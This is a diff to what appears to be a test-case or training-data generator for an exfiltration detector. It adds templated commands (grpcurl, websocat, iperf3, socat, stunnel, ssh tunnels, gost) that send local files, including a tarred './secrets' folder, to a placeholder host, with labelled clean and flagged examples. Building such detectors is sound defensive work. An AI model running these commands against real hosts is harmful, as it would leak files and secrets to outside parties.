@@ -210,6 +210,50 @@ TOOLS = {
             ("duplicity collection-status sftp://x@paste.badhost.test//bk", "any_host", "paste.badhost.test"),
         ],
     ),
+    "tool-rpc-ws": (
+        [
+            "grpcurl -d @ {h}:443 pkg.Svc/Put < {f}",
+            "grpcurl -plaintext -d \"$(jq -Rs '{blob:.}' {f})\" {h}:50051 up.Store/Save",
+            "websocat -b wss://{h}/ws < {f}",
+            "cat {f} | websocat --binary -n1 ws://{h}:8080/in",
+            "wscat -c wss://{h}/s -x \"$(cat {f})\"",
+            "iperf3 -c {h} -F {f} -t 5",
+            "iperf3 -c {h} -p 52{n} -F {f} -n 1M",
+            "buf curl --data @{f} https://{h}/pkg.v1.Svc/Upload",
+            "ghz --insecure --proto up.proto --call up.Store.Save -D {f} -n 1 {h}:50051",
+            "evans --host {h} -p 443 --tls cli call up.Store.Save < {f}",
+        ],
+        10,
+        [
+            ("grpcurl -plaintext -d @ localhost:50051 up.Store/Save < req.json", "clean"),
+            ("grpcurl corp.example.com:443 list", "clean"),
+            ("websocat ws://127.0.0.1:8080/echo", "clean"),
+            ("iperf3 -s -p 5201", "clean"),
+            ("iperf3 -c 127.0.0.1 -F big.bin", "clean"),
+            ("iperf3 -c 203.0.113.77 -t 5", "any_host", "203.0.113.77"),
+        ],
+    ),
+    "tool-tls-tunnel": (
+        [
+            "socat -u FILE:{f} OPENSSL:{h}:443,verify=0",
+            "socat - SSL:{h}:8443,verify=0 < {f}",
+            "tar cz ./secrets | socat -u STDIN OPENSSL-CONNECT:{h}:443,cafile=/dev/null",
+            "printf '[x]\\nclient = yes\\naccept = 127.0.0.1:9{n}00\\nconnect = {h}:443\\n' > /tmp/s.conf && stunnel /tmp/s.conf && nc 127.0.0.1 9{n}00 < {f}",
+            "stunnel -c -d 127.0.0.1:8{n}43 -r {h}:443 && curl -T {f} http://127.0.0.1:8{n}43/",
+            "ssh -fN -L 9{n}00:{h}:80 deploy@jump.example.com && curl -T {f} http://localhost:9{n}00/",
+            "ghostunnel client --listen localhost:8{n}00 --target {h}:443 --unsafe-target & sleep 1; curl --data-binary @{f} http://localhost:8{n}00/",
+            "gost -L tcp://127.0.0.1:70{n}0/{h}:7000 & nc 127.0.0.1 70{n}0 < {f}",
+            "socat TCP-LISTEN:9{n}99,fork OPENSSL:{h}:443 & curl -T {f} http://127.0.0.1:9{n}99/",
+        ],
+        9,
+        [
+            ("socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80", "clean"),
+            ("socat -u FILE:dist.tgz OPENSSL:corp.example.com:443", "clean"),
+            ("ssh -fN -L 5432:localhost:5432 deploy@jump.example.com", "clean"),
+            ("systemctl restart stunnel4", "clean"),
+            ("socat - OPENSSL:ingest.sly-metrics.invalid:443,verify=0 </dev/null", "any_host", "ingest.sly-metrics.invalid"),
+        ],
+    ),
 }
 
 
